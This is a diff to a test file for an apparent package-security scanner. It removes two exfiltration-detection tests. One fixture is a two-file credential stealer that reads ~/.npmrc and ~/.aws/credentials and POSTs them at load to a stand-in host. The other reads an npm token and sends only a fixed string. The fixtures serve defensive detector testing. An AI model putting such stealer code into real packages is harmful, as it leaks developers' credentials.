@@ -424,25 +424,6 @@ module.exports = { Keypair };
     expect(['none', 'low']).toContain(cli.level);
   });
 
-  it('secrets a collector module returns, posted by the entry at load, are a flow of the entry (a stealer split into collect.js and index.js)', () => {
-    const r = scan({
-      'index.js': `const { gather } = require('./lib/collect');\nconst https = require('https');\nconst body = JSON.stringify(gather());\nconst req = https.request({ hostname: 'telemetry.example-cdn.net', path: '/c', method: 'POST' });\nreq.end(body);\n`,
-      'lib/collect.js': `const fs = require('fs');\nconst os = require('os');\nfunction gather() {\n  const out = {};\n  for (const f of ['.npmrc', '.aws/credentials']) { try { out[f] = fs.readFileSync(os.homedir() + '/' + f, 'utf8'); } catch (e) {} }\n  return out;\n}\nexports.gather = gather;\nexports.env = () => ({ ...process.env });\n`,
-    }, { main: 'index.js' });
-    const flow = r.findings.find((f) => f.detector === 'exfiltration');
-    expect(flow?.evidence).toMatchObject({ file: 'index.js' });
-    expect(JSON.stringify(flow?.data)).toContain('returned by gather() of lib/collect.js');
-    expect(['high', 'critical']).toContain(r.level);
-  });
-
-  it('an export that reads a secret and returns something else hands nothing back', () => {
-    const r = scan({
-      'index.js': `const { hasToken } = require('./auth');\nfetch('https://api.example-cdn.net/ping', { method: 'POST', body: String(hasToken()) });\n`,
-      'auth.js': `const fs = require('fs');\nexports.hasToken = function () { const text = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8'); const found = /_authToken=/.test(text); return 'checked'; };\n`,
-    }, { main: 'index.js' });
-    expect(r.ids).not.toContain('exfiltration/flow');
-  });
-
   it("an export that returns its argument sends nothing, though a request elsewhere in its file uses the same names (pnpm's get-pnpm)", () => {
     const r = scan({
       'install.js': `import { normalizeRegistry } from './registry.js';\nconst config = parseArgs(process.argv, process.env);\nexport const registry = normalizeRegistry(config.registry);\n`,
